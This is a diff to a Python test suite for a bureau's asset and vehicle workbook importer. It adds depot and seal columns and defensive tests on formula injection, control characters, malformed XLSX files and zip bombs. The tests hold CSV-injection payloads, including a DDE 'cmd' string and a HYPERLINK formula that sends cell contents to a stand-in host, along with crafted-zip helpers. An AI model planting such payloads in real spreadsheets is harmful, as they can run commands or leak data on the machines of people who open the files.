@@ -6,6 +6,7 @@ import copy
 import csv
 import datetime as dt
 import io
+import zipfile
 from pathlib import Path
 
 import openpyxl
@@ -17,18 +18,18 @@ from assets.models import Asset, ChangeRecord, CustodyEvent, OrgUnit, Person, Pe
 from assets.workbook import Progress, WorkbookError, export_workbook, import_workbook
 from assets.workbook.schema import SHEETS_BY_KEY
 from quartermaster.context import change_context
-from telematics.models import DutySchedule, Holiday, TerminalBinding, Trip, Vehicle, VehicleHistory
+from telematics.models import DutySchedule, Holiday, TerminalBinding, Trip, Vehicle, VehicleHistory, VehicleSeal
 
 HEADERS = {key: [c.key for c in sheet.columns] for key, sheet in SHEETS_BY_KEY.items()}
 
 # A small bureau in SPEC's English headers; every column of every sheet is used at least once.
 BASE = {
     "units": [
-        ["CZ", "常州市城市管理局", "bureau", "", 5300000],
-        ["CZ-ZD", "常州市城市管理行政执法支队", "detachment", "CZ", ""],
-        ["CZ-TN", "天宁大队", "brigade", "CZ-ZD", 700000],
-        ["CZ-TN-01", "天宁一中队", "squadron", "CZ-TN", ""],
-        ["CZ-BGS", "办公室", "office", "CZ", ""],
+        ["CZ", "常州市城市管理局", "bureau", "", 5300000, "", "", ""],
+        ["CZ-ZD", "常州市城市管理行政执法支队", "detachment", "CZ", "", "", "", ""],
+        ["CZ-TN", "天宁大队", "brigade", "CZ-ZD", 700000, 31.7801, 119.9502, 120],
+        ["CZ-TN-01", "天宁一中队", "squadron", "CZ-TN", "", 31.7755, 119.9611, ""],
+        ["CZ-BGS", "办公室", "office", "CZ", "", "", "", ""],
     ],
     "personnel": [
         ["P001", "张三", "CZ-TN-01", "officer", "yes", "active", "JS0001", "2030-01-01", "320401001"],
@@ -48,9 +49,9 @@ BASE = {
     ],
     "vehicles": [
         ["苏D·A0001", "CZ-TN", 5, "LSVAA4187E2000001", "轿车", "T0001", "yes", "in_service", "2022-01-01",
-         "2027-01-01", "2027-03-01"],
+         "2027-01-01", "2027-03-01", "", ""],
         ["苏D·A0002", "CZ-TN-01", 7, "LSVAA4187E2000002", "SUV", "", "no", "in_repair", "2021-05-01",
-         "2026-12-31", ""],
+         "2026-12-31", "", "2026-09-30", "2026-10-08"],
     ],
     "duty_schedules": [
         ["CZ-TN", "1-5", "08:00", "17:30"],
@@ -102,7 +103,7 @@ def run_import(path: Path, **kwargs):
 
 def registry_counts() -> dict[str, int]:
     models = (OrgUnit, Person, PersonHistory, Asset, CustodyEvent, ChangeRecord, Vehicle, VehicleHistory,
-              TerminalBinding, DutySchedule, Holiday, Trip)
+              TerminalBinding, DutySchedule, Holiday, Trip, VehicleSeal)
     return {m.__name__: m.objects.count() for m in models}
 
 
@@ -121,6 +122,9 @@ def test_every_sheet_is_imported(db, tmp_path, form):
     assert OrgUnit.objects.get(code="CZ").parent is None
     assert OrgUnit.objects.get(code="CZ-ZD").population is None
     assert OrgUnit.objects.get(code="CZ-TN-01").path.startswith(OrgUnit.objects.get(code="CZ").path)
+    assert tn.depot == (31.7801, 119.9502, 120.0)
+    assert OrgUnit.objects.get(code="CZ-TN-01").depot == (31.7755, 119.9611, 100.0)  # the default radius
+    assert OrgUnit.objects.get(code="CZ").depot is None
 
     p1 = Person.objects.get(staff_no="P001")
     assert (p1.name, p1.unit.code, p1.role, p1.frontline, p1.status, p1.cert_no, p1.cert_expires, p1.badge_no) == (
@@ -153,6 +157,8 @@ def test_every_sheet_is_imported(db, tmp_path, form):
     van = Vehicle.objects.get(plate="苏D·A0002")
     assert (van.terminal_id, van.livery_compliant, van.status, van.inspection_expires) == (
         None, False, "in_repair", None)
+    assert list(van.seals.values_list("sealed_from", "sealed_to")) == [(dt.date(2026, 9, 30), dt.date(2026, 10, 8))]
+    assert not car.seals.exists()
     # Written through the fleet's services: the file has its history and the terminal its binding.
     assert car.history.filter(effective=dt.date(2022, 1, 1), unit=tn, status="in_service").exists()
     assert TerminalBinding.objects.get(terminal_id="T0001", unbound_at__isnull=True).vehicle == car
@@ -238,6 +244,26 @@ def test_chinese_headers_and_values(db, tmp_path):
     assert again.events == 0 and again.change_records == 0
 
 
+def test_depots_and_seals_are_updated_by_a_later_workbook_and_left_alone_without_their_columns(db, tmp_path):
+    run_import(write(tmp_path / "a.xlsx", base()))
+    sheets = base()
+    sheets["units"][2][5:8] = [31.79, 119.96, 200]
+    sheets["units"][3][5:8] = ["", "", ""]
+    sheets["vehicles"][1][11:13] = ["2026-09-30", "2026-10-05"]  # the same period, ended earlier
+    sheets["vehicles"][0][11:13] = ["2027-02-10", "2027-02-17"]  # the Spring Festival
+    result = run_import(write(tmp_path / "b.xlsx", sheets))
+    assert (result.counts["units"].updated, result.counts["vehicles"].updated) == (2, 2)
+    assert OrgUnit.objects.get(code="CZ-TN").depot == (31.79, 119.96, 200.0)
+    assert OrgUnit.objects.get(code="CZ-TN-01").depot is None
+    assert sorted(VehicleSeal.objects.values_list("vehicle__plate", "sealed_from", "sealed_to")) == [
+        ("苏D·A0001", dt.date(2027, 2, 10), dt.date(2027, 2, 17)), ("苏D·A0002", dt.date(2026, 9, 30), dt.date(2026, 10, 5))]
+    without = {"units": [row[:5] for row in sheets["units"]], "vehicles": [row[:11] for row in sheets["vehicles"]]}
+    headers = {"units": HEADERS["units"][:5], "vehicles": HEADERS["vehicles"][:11]}
+    again = run_import(write(tmp_path / "c.xlsx", without, headers=headers))
+    assert again.counts["units"].updated == 0 and again.counts["vehicles"].updated == 0
+    assert OrgUnit.objects.get(code="CZ-TN").depot == (31.79, 119.96, 200.0) and VehicleSeal.objects.count() == 2
+
+
 def test_a_missing_sheet_imports_nothing_of_it(db, tmp_path):
     sheets = base()
     run_import(write(tmp_path / "full.xlsx", sheets))
@@ -304,6 +330,13 @@ BAD_CELLS = [
     ("vehicles", 0, "insurance_expires", "soon", "bad date 'soon'"),
     ("vehicles", 1, "plate", "苏D·A0001", "appears twice (also row 2)"),
     ("vehicles", 1, "terminal_id", "T0001", "terminal T0001 is also on row 2"),
+    ("vehicles", 1, "sealed_from", "", "give both sealed_from and sealed_to"),
+    ("vehicles", 1, "sealed_to", "2026-09-01", "is before sealed_from 2026-09-30"),
+    ("vehicles", 1, "sealed_to", "National Day", "bad date 'National Day'"),
+    ("units", 3, "depot_lat", "", "give both depot_lat and depot_lon"),
+    ("units", 3, "depot_lon", "200", "out of range"),
+    ("units", 2, "depot_radius_m", "-5", "must be a positive number"),
+    ("units", 1, "depot_radius_m", "80", "a depot radius needs the depot's depot_lat and depot_lon"),
     ("duty_schedules", 0, "unit", "CZ-NOPE", "unknown unit 'CZ-NOPE'"),
     ("duty_schedules", 0, "weekdays", "Mon-Fri", "bad weekday spec 'Mon-Fri'"),
     ("duty_schedules", 0, "weekdays", "5-1", "runs backwards"),
@@ -564,6 +597,162 @@ def test_large_files_show_a_progress_bar_small_ones_do_not(db, tmp_path, capfd):
     assert "reading assets.csv" in large.err and "writing assets" in large.err
     assert "5100/5100" in large.err  # the bar counts the rows written
     assert "assets: 5100 created, 0 updated, 9 unchanged" in large.out
+
+
+# --- formulas and control characters --------------------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/\"&A1,\"点我\")", "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(1)",
+            "'=already quoted"]
+
+
+def test_text_entered_through_the_api_is_never_a_live_formula_in_an_export(bureau, tmp_path, api_client_for):
+    """`qm export`: a name typed as a formula is text in the XLSX (no formula cell) and in the CSV (leading
+    apostrophe); importing the export gives back exactly the names entered."""
+    from tests.support.fixtures import make_user
+
+    client = api_client_for(make_user("admin", "administrator", superuser=True))
+    for n, name in enumerate(FORMULAS):
+        response = client.post("/api/v1/personnel/", {"staff_no": f"F{n}", "name": name, "unit": "CZ-TN-01",
+                                                      "role": "auxiliary"}, format="json")
+        assert response.status_code == 201, response.content
+    call_command("export", str(tmp_path / "out.xlsx"))
+    call_command("export", str(tmp_path / "csv"))
+    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["personnel"]
+    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    for n, name in enumerate(FORMULAS):
+        assert cells[f"F{n}"].data_type == "s" and cells[f"F{n}"].value == "'" + name
+    with open(tmp_path / "csv" / "personnel.csv", encoding="utf-8", newline="") as handle:
+        written = {row[0]: row[1] for row in csv.reader(handle)}
+    assert [written[f"F{n}"] for n in range(len(FORMULAS))] == ["'" + name for name in FORMULAS]
+    assert written["P001"] == "张三"
+
+    for exported in (tmp_path / "out.xlsx", tmp_path / "csv"):  # read back as the very names: nothing changes
+        result = run_import(exported)
+        assert (result.events, result.change_records) == (0, 0), result.summary()
+    assert [Person.objects.get(staff_no=f"F{n}").name for n in range(len(FORMULAS))] == FORMULAS
+
+
+def test_compliance_csv_and_xlsx_carry_unit_names_as_text(bureau):
+    from assets.compliance.render import render_csv, render_xlsx
+    from assets.compliance.services import compliance_report
+
+    OrgUnit.objects.filter(code="CZ-TN").update(name="=1+2")
+    OrgUnit.objects.filter(code="CZ-WJ").update(name="@cmd")
+    report = compliance_report(unit=OrgUnit.objects.get(code="CZ"), standard_id="jiangsu",
+                               as_of=dt.date(2026, 11, 22))
+    values = [c.value for ws in openpyxl.load_workbook(io.BytesIO(render_xlsx(report))) for row in ws.iter_rows()
+              for c in row if isinstance(c.value, str)]
+    formulas = [c for ws in openpyxl.load_workbook(io.BytesIO(render_xlsx(report))) for row in ws.iter_rows()
+                for c in row if c.data_type == "f"]
+    assert formulas == [] and "'=1+2" in values and "'@cmd" in values
+    rows = list(csv.reader(io.StringIO(render_csv(report).decode())))
+    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)
+
+
+def test_a_control_character_in_a_cell_is_refused_with_its_place(db, tmp_path):
+    """A NUL in a CSV cell used to be stored, and then every XLSX export stopped on it."""
+    sheets = base()
+    sheets["personnel"][2][1] = "李\x00四"
+    sheets["assets"][2][6] = "SN\x07"
+    with pytest.raises(WorkbookError) as refused:
+        run_import(write(tmp_path / "b", sheets))
+    reasons = [str(e) for e in refused.value.errors]
+    assert "personnel.csv, row 4, column name: contains the control character U+0000 at position 2" in reasons
+    assert "assets.csv, row 4, column serial: contains the control character U+0007 at position 3" in reasons
+    assert Person.objects.count() == 0
+
+
+# --- crafted and malformed XLSX files -------------------------------------------------------------------------
+
+ASSETS_XML = "xl/worksheets/sheet3.xml"  # write() creates the sheets in BASE's order: units, personnel, assets…
+
+
+def _patched(source: Path, target: Path, part: str, edit) -> Path:
+    """A copy of the XLSX `source` whose `part` is rewritten by edit(text) -> text, as a crafted file would be."""
+    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
+        names = zin.namelist()
+        for info in zin.infolist():
+            data = zin.read(info.filename)
+            if info.filename == part:
+                data = edit(data.decode()).encode()
+            zout.writestr(info, data)
+        if part not in names:
+            zout.writestr(part, edit(""))
+    return target
+
+
+def _replace(old: str, new: str):
+    def edit(xml: str) -> str:
+        assert old in xml, old
+        return xml.replace(old, new, 1)
+    return edit
+
+
+G4 = '<c r="G4" t="inlineStr"><is><t>SN-R1</t></is></c>'  # assets row 4 (R-001), column serial
+
+
+@pytest.mark.parametrize("edit, where, reason", [
+    (_replace(G4, '<c r="G4" t="s"><v>99</v></c>'), ("assets", 4, "serial"), "refers to shared string 99 of 0"),
+    (_replace(G4, '<c r="G4"><v>abc</v></c>'), ("assets", 4, "serial"), "stored value 'abc' is not a valid"),
+    (_replace(G4, '<c r="XFE4" t="inlineStr"><is><t>SN-R1</t></is></c>'), ("assets", 4, "XFE"),
+     "cell XFE4 lies beyond column XFD"),
+    (_replace(G4, '<c r="ZZZZZZZZ4" t="inlineStr"><is><t>SN-R1</t></is></c>'), ("assets", 4, "ZZZZZZZZ4"),
+     "bad cell reference"),
+    (_replace('<row r="4">', '<row r="99999999999">'), ("assets", 4, ""),
+     "row number '99999999999' is not one of 1 to 1048576"),
+    (_replace('<row r="4">', '<row r="2000000">'), ("assets", 4, ""), "is not one of 1 to 1048576"),
+    (_replace("</sheetData>", "<c></sheetData>"), ("assets", 11, ""), "the sheet's XML is broken near line 1"),
+    (_replace("SN-R1", "SN&#0;R1"), ("assets", 4, ""), "the sheet's XML is broken"),
+], ids=["shared string out of range", "number that is not", "column beyond XFD", "absurd column",
+        "row number of hours", "row number past Excel's", "broken XML", "NUL character"])
+def test_a_malformed_xlsx_is_refused_with_sheet_row_and_column(db, tmp_path, edit, where, reason):
+    path = _patched(write(tmp_path / "clean.xlsx", base()), tmp_path / "bad.xlsx", ASSETS_XML, edit)
+    with pytest.raises(WorkbookError) as caught:
+        run_import(path)
+    found = [e for e in caught.value.errors if (e.sheet, e.row, e.column) == where]
+    assert found and reason in found[0].reason, [str(e) for e in caught.value.errors]
+    assert OrgUnit.objects.count() == 0
+
+
+def test_the_cli_names_the_cell_of_a_malformed_xlsx_without_a_traceback(db, tmp_path, monkeypatch, capfd):
+    path = _patched(write(tmp_path / "clean.xlsx", base()), tmp_path / "bad.xlsx", ASSETS_XML,
+                    _replace(G4, '<c r="G4" t="s"><v>-1</v></c>'))
+    assert run_qm("import", str(path), monkeypatch=monkeypatch) != 0
+    err = capfd.readouterr().err
+    assert "assets, row 4, column serial:" in err and "Traceback" not in err
+
+
+def test_a_zip_that_unpacks_beyond_the_limit_is_refused_before_it_is_read(db, tmp_path, settings):
+    """A few KB of zip can hold hundreds of MB of shared strings; the declared sizes are checked first."""
+    settings.QM_IMPORT_MAX_MB = 2
+    strings = "<sst>" + "<si><t>" + "a" * 3 * 1024 * 1024 + "</t></si></sst>"
+    path = _patched(write(tmp_path / "clean.xlsx", base()), tmp_path / "bomb.xlsx", "xl/sharedStrings.xml",
+                    lambda _xml: strings)
+    assert path.stat().st_size < 64 * 1024
+    with pytest.raises(ValueError, match=r"unpacks to 3 MB, more than the 2 MB allowed \(setting QM_IMPORT_MAX_MB\)"):
+        run_import(path)
+    with pytest.raises(CommandError, match="QM_IMPORT_MAX_MB"):
+        call_command("import", str(path))
+    assert OrgUnit.objects.count() == 0
+
+
+def test_an_unreadable_part_is_named(db, tmp_path):
+    path = _patched(write(tmp_path / "clean.xlsx", base()), tmp_path / "bad.xlsx", "xl/styles.xml",
+                    lambda xml: xml[: len(xml) // 2])
+    with pytest.raises(ValueError, match=r"not a readable XLSX workbook \(xl/styles.xml: ParseError"):
+        run_import(path)
+
+
+def test_row_and_size_limits_apply_to_csv_folders(db, tmp_path, settings):
+    folder = write(tmp_path / "csv", base())
+    settings.QM_IMPORT_MAX_ROWS = 5
+    with pytest.raises(WorkbookError) as caught:
+        run_import(folder)
+    assert ("assets.csv", 6, "") in [(e.sheet, e.row, e.column) for e in caught.value.errors]
+    settings.QM_IMPORT_MAX_ROWS, settings.QM_IMPORT_MAX_MB = 1000, 0
+    with pytest.raises(ValueError, match="setting QM_IMPORT_MAX_MB"):
+        run_import(folder)
+    assert OrgUnit.objects.count() == 0
 
 
 # --- the bureau as it stands (SPEC "Bureau workbook") ---------------------------------------------------------
